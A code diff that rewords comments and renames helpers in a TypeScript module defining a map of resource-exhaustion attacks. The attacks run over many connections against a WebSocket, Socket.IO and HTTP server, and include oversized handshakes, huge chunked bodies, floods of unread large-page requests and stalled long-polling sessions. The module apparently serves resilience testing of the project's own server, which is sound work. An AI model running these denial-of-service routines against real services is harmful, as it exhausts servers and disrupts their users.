@@ -1,10 +1,10 @@
-/** Ways in which a peer can hold memory or time. Each is carried out from many connections at once, by `attacker.ts`. */
+/** Attacks that consume memory or time. `attacker.ts` runs each over many connections at once. */
 import { connect, type Socket } from 'node:net';
 import { WebSocket } from 'ws';
 
 export interface Target {
   url: string;
-  /** One for each connection, each of another user. */
+  /** One token per connection, each of another user. */
   tokens: readonly string[];
 }
 
@@ -27,7 +27,7 @@ const send = (socket: WebSocket, data: string | Buffer, options = {}) =>
   socket.send(data, options, () => undefined);
 const handshake = ({ tokens }: Target, index: number, more = '') => `40{"token":"${tokens[index]}"${more}}`;
 
-/** A socket that is connected, and then does something. */
+/** Connects a socket, then runs the attack on it. */
 const connected = (target: Target, index: number, act: (socket: WebSocket) => void): void =>
   webSocket(target, (socket, packet) => {
     if (isOpen(packet)) send(socket, handshake(target, index));
@@ -45,8 +45,8 @@ const post = (target: Target, index: number, headers: string, body: string): voi
     socket.write(body);
   });
 
-/** Asks for so many large pages over one connection at once, and reads none of them. */
-const askUnread = (target: Target, index: number, count: number): void =>
+/** Requests many large pages over one connection at once, and reads no response. */
+const requestUnread = (target: Target, index: number, count: number): void =>
   tcp(target, (socket) => {
     socket.pause();
     const path = `/v1/users/eve-${index}/feed?limit=100`;
@@ -54,7 +54,7 @@ const askUnread = (target: Target, index: number, count: number): void =>
     socket.write(head.repeat(count));
   });
 
-/** A client of long polling, which posts something to its session and never polls. */
+/** A long-polling client that posts to its session and never polls. */
 async function poll(target: Target, index: number, bodies: string[]): Promise<void> {
   const path = `${target.url}/socket.io/?EIO=4&transport=polling`;
   const opened = await (await fetch(path)).text();
@@ -68,10 +68,10 @@ const poller = (target: Target, index: number, bodies: string[]): void =>
   void poll(target, index, bodies).catch(() => undefined);
 
 const objects = (bytes: number) => `[${'{},'.repeat(bytes / 3)}{}]`;
-const asks = (event: string, count: number) =>
+const requestPackets = (event: string, count: number) =>
   Array.from({ length: count }, (_, id) => `42${id}["${event}",{"limit":100}]`);
 
-/** By name: what one connection does. */
+/** What one connection does, by the attack's name. */
 export const attacks = new Map<string, (target: Target, index: number) => void>([
   [
     'handshakes of 8 MB with a valid token',
@@ -143,7 +143,7 @@ export const attacks = new Map<string, (target: Target, index: number) => void>(
     (target, index) =>
       connected(target, index, (socket) => {
         stall(socket);
-        for (const ask of asks('feed:list', 10)) send(socket, ask);
+        for (const packet of requestPackets('feed:list', 10)) send(socket, packet);
       }),
   ],
   [
@@ -198,14 +198,14 @@ export const attacks = new Map<string, (target: Target, index: number) => void>(
     (target, index) => post(target, index, 'Transfer-Encoding: chunked', `fffff\r\n${'x'.repeat(0xffffe)}`),
   ],
   [
-    'requests for large pages whose answers are not read',
+    'requests for large pages whose responses are not read',
     (target, index) => {
-      for (let count = 0; count < 4; count += 1) askUnread(target, index, 1);
+      for (let count = 0; count < 4; count += 1) requestUnread(target, index, 1);
     },
   ],
   [
-    'requests for large pages, all at once, whose answers are not read',
-    (target, index) => askUnread(target, index, 50),
+    'requests for large pages, all at once, whose responses are not read',
+    (target, index) => requestUnread(target, index, 50),
   ],
   ['long polling with large bodies', (target, index) => poller(target, index, [`4${'x'.repeat(8 * MIB)}`])],
   [
@@ -214,7 +214,7 @@ export const attacks = new Map<string, (target: Target, index: number) => void>(
       poller(
         target,
         index,
-        Array.from({ length: 5 }, () => asks('feed:list', 10).join('\x1e')),
+        Array.from({ length: 5 }, () => requestPackets('feed:list', 10).join('\x1e')),
       ),
   ],
 ]);
